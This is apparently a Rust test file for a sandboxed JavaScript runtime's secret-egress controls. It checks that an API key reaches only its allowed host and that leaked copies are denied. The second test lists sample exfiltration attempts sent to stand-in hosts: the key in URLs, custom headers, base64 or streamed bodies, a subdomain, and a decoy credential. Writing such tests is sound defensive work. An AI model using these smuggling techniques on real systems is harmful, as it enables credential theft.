//! Secrets: the value goes out in its header to its host, and comes back nowhere.

use super::Scene;
use crate::house::world::{API_KEY, files_with_secrets, secrets_in};
use serde_json::{Value, json};

#[test]
fn a_value_reaches_its_host_and_its_reflection_does_not_reach_the_guest() {
    let scene = Scene::start("");
    let report = scene.run(
        "production",
        "const headers = { authorization: `Bearer ${env.API_KEY}` };
        const echo = await (await fetch('https://good.example/echo', { headers })).text();
        const { authorized } = await (await fetch('https://good.example/auth', { headers })).json();
        // The secret's host sends the request on: the header stays behind, whoever is named.
        const moved = await (await fetch('https://good.example/redirect?to=https://other.example/echo', { headers })).json();
        console.log(env.API_KEY, echo);
        return [authorized, echo.includes(env.API_KEY), 'authorization' in moved.headers, echo, Object.keys(env)];",
    );
    let result = &report["result"];
    assert_eq!(
        (&result[0], &result[1], &result[2], &result[4]),
        (&json!(true), &json!(false), &json!(false), &json!(["API_KEY"])),
        "{report}"
    );
    let sent =
        scene.world.look(|state| state.seen.iter().filter(|seen| seen.all("authorization") == [format!("Bearer {API_KEY}")]).count());
    assert_eq!(sent, 3);
    let used: Vec<&Value> = report["egress"].as_array().expect("rows").iter().map(|row| &row["secrets"]).collect();
    assert_eq!(used, [&json!(["API_KEY"]); 3]);
    assert_eq!(scene.world.complaints(), Vec::<String>::new());
    let stored = scene.sealed(report["run"].as_str().expect("a run"));
    assert!(secrets_in(&report.to_string()).is_empty() && secrets_in(&stored.to_string()).is_empty(), "{report}");
    let folder = scene.house.folder();
    assert_eq!(scene.house.stop(), Some(0));
    assert_eq!(files_with_secrets(folder.path()), Vec::<String>::new());
}

#[test]
fn a_placeholder_or_a_decoy_anywhere_else_is_denied_as_a_violation_and_nothing_leaves() {
    let scene = Scene::start("");
    let report = scene.run(
        "production",
        "const key = env.API_KEY, authorization = `Bearer ${key}`;
        const stream = () => new ReadableStream({ start(c) {
          const bytes = new TextEncoder().encode('key=' + key);
          c.enqueue(bytes.subarray(0, 10)); c.enqueue(bytes.subarray(10)); c.close();
        } });
        const tries = [
          ['https://other.example/echo', { headers: { authorization } }],
          ['https://good.example/echo?key=' + key, {}],
          ['https://good.example/echo/' + key.replace(/./g, (c) => '%' + c.charCodeAt(0).toString(16)), {}],
          ['https://good.example/echo', { headers: { 'x-key': key } }],
          ['https://good.example/echo', { method: 'POST', body: key }],
          ['https://good.example/echo', { method: 'POST', body: btoa(key) }],
          ['https://good.example/echo', { method: 'POST', body: env.AWS_SECRET_ACCESS_KEY }],
          ['https://' + key + '.wild.example/', {}],
          ['https://good.example/echo', { method: 'POST', body: stream(), duplex: 'half' }],
        ];
        const told = [];
        for (const [url, init] of tries) told.push(await fetch(url, init).then((answer) => answer.text(), (error) => error.name));
        return told;",
    );
    let told = report["result"].as_array().unwrap_or_else(|| panic!("{report}"));
    assert!(told.len() == 9 && told.iter().all(|told| told == "EgressDenied"), "{report}");
    let kinds: Vec<&str> =
        report["egress"].as_array().expect("rows").iter().map(|row| row["violation"].as_str().unwrap_or("none")).collect();
    assert_eq!(kinds, ["wrongHost", "inUrl", "inUrl", "wrongHeader", "inBody", "inBody", "canary", "inUrl", "inBody"], "{report}");
    assert!(report["denials"].as_array().is_some_and(|all| all.len() == 9 && all.iter().all(|denial| denial["capability"] == "secret")));
    // Only the request whose body is a stream had begun, and it was never whole.
    let seen = scene.world.look(|state| state.seen.clone());
    assert!(seen.len() <= 1 && seen.iter().all(|seen| seen.body.len() <= 10), "{seen:?}");
    assert_eq!(scene.world.complaints(), Vec::<String>::new());
}
